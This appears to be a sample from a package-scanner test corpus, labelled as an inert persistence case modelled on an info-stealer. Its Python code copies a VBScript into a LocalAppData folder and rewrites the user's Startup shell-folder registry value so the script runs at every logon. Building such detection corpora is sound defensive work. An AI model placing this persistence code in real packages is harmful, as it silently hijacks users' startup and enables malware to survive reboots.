# pkgguard corpus 799 (persistence), modelled on [stealer-profile]; inert, never run.
import os
import shutil
import sys

if sys.platform == "win32":
    import winreg

    folder = os.path.join(os.environ["LOCALAPPDATA"], "Packages", "SyncCache")
    os.makedirs(folder, exist_ok=True)
    here = os.path.dirname(os.path.abspath(__file__))
    shutil.copyfile(os.path.join(here, "data", "sync.vbs"), os.path.join(folder, "sync.vbs"))
    key = winreg.OpenKey(
        winreg.HKEY_CURRENT_USER,
        r"Software\Microsoft\Windows\CurrentVersion\Explorer\User Shell Folders",
        0,
        winreg.KEY_SET_VALUE,
    )
    winreg.SetValueEx(key, "Startup", 0, winreg.REG_EXPAND_SZ, folder)
